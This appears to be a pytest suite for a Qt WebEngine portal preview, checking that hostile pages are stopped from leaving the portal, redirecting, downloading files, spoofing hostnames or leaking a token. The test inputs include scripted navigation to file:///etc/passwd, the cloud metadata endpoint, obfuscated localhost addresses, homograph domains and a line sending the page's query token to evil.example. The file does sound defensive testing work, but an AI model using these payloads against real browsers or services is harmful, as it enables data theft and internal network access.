"""Ways to leave the portal: each is refused, or the user is asked in place."""

from __future__ import annotations

import pytest
from PySide6.QtWebEngineCore import QWebEngineDownloadRequest

from tests.support.hostile_kit import FULL_PAGE, PATH
from tests.support.page_server import Answer
from tests.support.preview_kit import ENGINE_NOISE, TOKEN, press, shows_text, visible_texts

pytestmark = pytest.mark.qt_log_ignore(*ENGINE_NOISE)

MIXED = "https://xn--pple-43d.example/in?x=1"

# Where the page tries to go, and how the notice calls it.
REFUSED = {
    "file:///etc/passwd": "a “file:” address",
    "chrome://version": "a “chrome:” address",
    "view-source:https://portal.example/": "a “view-source:” address",
    "qrc:/icons/x.svg": "a “qrc:” address",
    "ftp://evil.example/": "a “ftp:” address",
    "mailto:someone@evil.example": "a “mailto:” address",
    "tel:+15550100": "a “tel:” address",
    "sms:+15550100": "a “sms:” address",
    "seam-portal:open": "a “seam-portal:” address",
    "ms-settings:privacy": "a “ms-settings:” address",
    "intent://evil.example/#Intent;end": "a “intent:” address",
    "http://plain.example/": "plain.example",
    "http://192.168.0.1/reboot": "192.168.0.1",
    "http://169.254.169.254/latest": "169.254.169.254",
    "https://router.local/": "router.local",
    "http://[::1]:9/": "[::1]:9",
    "http://2130706433:9/": "127.0.0.1:9",
    "http://0x7f.1:9/": "127.0.0.1:9",
    "http://0.0.0.0:9/": "0.0.0.0:9",
    "http://localhost.:9/": "localhost.:9",
}


@pytest.mark.parametrize("address", REFUSED)
@pytest.mark.parametrize("way", ["location", "link", "frame", "refresh"])
def test_the_page_does_not_get_to(hostile, address, way):
    act = {
        "location": f"location.href = '{address}'",
        "link": f"Object.assign(document.createElement('a'), {{href: '{address}'}}).click()",
        "frame": "const frame = document.createElement('iframe');"
        f"frame.src = '{address}'; document.body.append(frame)",
        "refresh": "document.head.insertAdjacentHTML('beforeend',"
        f"`<meta http-equiv=refresh content='0;url={address}'>`)",
    }[way]
    hostile.open(f"onClick(() => {{ {act}; report('tried', true) }})")
    hostile.click()
    hostile.report("tried")
    hostile.expect_notice(f"tried to open {REFUSED[address]}.")
    assert hostile.is_still_the_portal()


def test_a_script_address_runs_only_in_its_own_page(hostile):
    hostile.open(
        "onClick(() => { location.href = `javascript:report('ran on', location.pathname)` })"
    )
    hostile.click()
    assert hostile.report("ran on") == PATH


@pytest.mark.parametrize(
    "make",
    [
        "'data:text/html,<h1>Fake</h1>'",
        "URL.createObjectURL(new Blob(['<h1>Fake</h1>'], {type: 'text/html'}))",
    ],
    ids=["data", "blob"],
)
def test_the_page_does_not_replace_itself_by_content_of_its_own(hostile, make):
    hostile.open(f"onClick(() => {{ location.href = {make}; report('tried', true) }})")
    hostile.click()
    hostile.report("tried")
    hostile.run("1")
    assert hostile.is_still_the_portal()


def test_leaving_asks_in_place_and_staying_stays(hostile, expect_question):
    leave = "location.href = 'https://evil.example/?t=1'"
    hostile.open(f"addEventListener('click', () => {{ {leave} }})")
    hostile.run(f"({leave}, 1)")
    expect_question("wants to go to evil.example.")
    press(hostile.pane, "Stay")
    hostile.run(f"({leave}, 1)")
    hostile.run("1")
    assert not shows_text(hostile.pane, "wants to go to")
    hostile.click()
    expect_question("wants to go to evil.example.")
    press(hostile.pane, "Stay")
    assert hostile.is_still_the_portal()


def test_the_page_can_not_replace_an_open_question(hostile, expect_question):
    hostile.open("")
    hostile.run("(location.href = 'https://harmless.example/', 1)")
    expect_question("harmless.example")
    hostile.run("(location.href = 'https://evil.example/', 1)")
    hostile.run("1")
    press(hostile.pane, "Open in system browser")
    assert [link.reveal() for link in hostile.signals.external] == ["https://harmless.example/"]


@pytest.mark.parametrize(
    ("script", "body"),
    [
        ("onClick(() => document.forms[0].submit())", "<form action='{to}'><input name=a></form>"),
        (
            "onClick(() => document.forms[0].submit())",
            "<form method=post action='{to}'><input name=a></form>",
        ),
        ("", "<a {full_page} href='{to}'>Sign in</a>"),
        ("onClick(() => location.replace('{to}'))", ""),
        ("onClick(() => navigation.navigate('{to}'))", ""),
        (
            (
                "onClick(() => {{ document.querySelector('iframe').srcdoc ="
                " `<script>top.location = '{to}'<\\/script>` }})"
            ),
            "<iframe></iframe>",
        ),
    ],
    ids=["form", "post", "link", "replace", "navigation", "frame"],
)
def test_every_way_to_another_host_asks(hostile, expect_question, script, body):
    to = "https://evil.example/in"
    hostile.open(script.format(to=to), body.format(to=to, full_page=FULL_PAGE))
    hostile.click()
    expect_question("wants to go to evil.example.")
    assert hostile.is_still_the_portal()


def test_a_sandboxed_frame_does_not_make_the_preview_ask(hostile):
    hostile.open(
        "",
        "<iframe sandbox='allow-scripts' srcdoc=\"<script>top.location = 'https://evil.example/'"
        '</script>"></iframe>',
    )
    hostile.run("1")
    assert not shows_text(hostile.pane, "wants to go to")
    assert hostile.is_still_the_portal()


@pytest.mark.parametrize(
    ("address", "words"),
    [
        (
            MIXED,
            "xn--pple-43d.example. It is read “\u2066аpple.example\u2069”, in Cyrillic and Latin",
        ),
        ("https://аррӏе.example/", "xn--80ak6aa92e.example"),
        ("https://xn--4gbrim.example/", "in Arabic and Latin letters."),
        (
            f"https://{'a' * 60}.{'b' * 60}.{'c' * 60}.evil.example/",
            f"to …{'c' * 15}\u200b{'c' * 16}\u200b{'c' * 15}.\u200bevil.\u200bexample.",
        ),
        ("https://portal.example@evil.example/", "to evil.example."),
    ],
    ids=["mixed", "whole", "right to left", "long", "name before"],
)
def test_the_question_names_the_real_host(hostile, expect_question, address, words):
    hostile.open("")
    hostile.run(f"(location.href = '{address}', 1)")
    expect_question(words)
    assert hostile.is_still_the_portal()


def test_the_system_browser_gets_the_address_of_the_question(hostile, expect_question):
    hostile.open("", f"<a {FULL_PAGE} href='{MIXED}'>Sign in</a>")
    hostile.click()
    expect_question("Names that mix alphabets often imitate another.")
    press(hostile.pane, "Open in system browser")
    assert [link.reveal() for link in hostile.signals.external] == [MIXED]


@pytest.mark.parametrize(
    "to", ["https://evil.example/", "http://192.168.0.1/", "file:///etc/passwd"]
)
def test_a_redirect_at_the_start_is_stopped(hostile, to):
    hostile.site.pages[PATH] = Answer(status=302, headers={"Location": to})
    hostile.show(hostile.site.url(PATH))
    hostile.until(lambda: hostile.signals.failed != [])
    ((_, kind),) = hostile.signals.failed
    assert kind in {"blocked", "connection"}


def test_a_page_that_leaves_at_once_is_stopped(hostile):
    hostile.show(hostile.write("location.href = 'https://evil.example/'"))
    hostile.until(lambda: hostile.signals.failed == [("portal-1", "blocked")])
    assert shows_text(hostile.pane, "The link leads somewhere else")


def test_a_page_that_blanks_itself_is_not_shown_as_the_portal(hostile):
    hostile.open("onClick(() => { location.href = 'about:blank' })")
    hostile.click()
    hostile.until(lambda: hostile.signals.failed == [("portal-1", "not_a_page")])


@pytest.mark.parametrize(
    "act",
    [
        "Object.assign(document.createElement('a'), {download: 'x', href: 'data:,x'}).click()",
        (
            "Object.assign(document.createElement('a'), {download: 'x',"
            " href: URL.createObjectURL(new Blob(['x']))}).click()"
        ),
        "location.href = '/file'",
        "document.body.append(Object.assign(document.createElement('iframe'), {src: '/file'}))",
    ],
    ids=["data", "blob", "page", "frame"],
)
def test_nothing_is_downloaded(hostile, act, tmp_path):
    hostile.site.pages["/file"] = Answer(headers={"Content-Disposition": "attachment; filename=x"})
    hostile.open(f"onClick(() => {{ for (let i = 0; i < 5; i++) {{ {act} }} }})")
    profile = hostile.web.widget.page().profile()
    profile.setDownloadPath(str(tmp_path))
    downloads = []
    profile.downloadRequested.connect(downloads.append)
    hostile.click()
    hostile.expect_notice("offered a file to download")
    assert hostile.is_still_the_portal()
    cancelled = QWebEngineDownloadRequest.DownloadState.DownloadCancelled
    # More of them may come while the first are being cancelled.
    hostile.until(lambda: {download.state() for download in downloads} == {cancelled})
    assert list(tmp_path.iterdir()) == []


def test_a_link_that_is_a_file_is_no_page(hostile):
    hostile.site.pages[PATH] = Answer(headers={"Content-Disposition": "attachment; filename=x"})
    hostile.show(hostile.site.url(PATH))
    hostile.until(lambda: hostile.signals.failed == [("portal-1", "not_a_page")])


def test_the_question_does_not_show_the_token(hostile, expect_question):
    hostile.open("")
    hostile.run("(location.href = 'https://evil.example/' + location.search, 1)")
    expect_question("evil.example")
    assert not any("token" in text for text in visible_texts(hostile.pane))


def test_the_pages_log_never_reaches_our_log(hostile, caplog, capfd, qtlog):
    hostile.open("console.error(location.href); console.log(location.search)")
    hostile.run("(console.warn(location.href), 1)")
    messages = [record.message for record in qtlog.records]
    assert TOKEN not in "".join([*messages, caplog.text, *capfd.readouterr()])
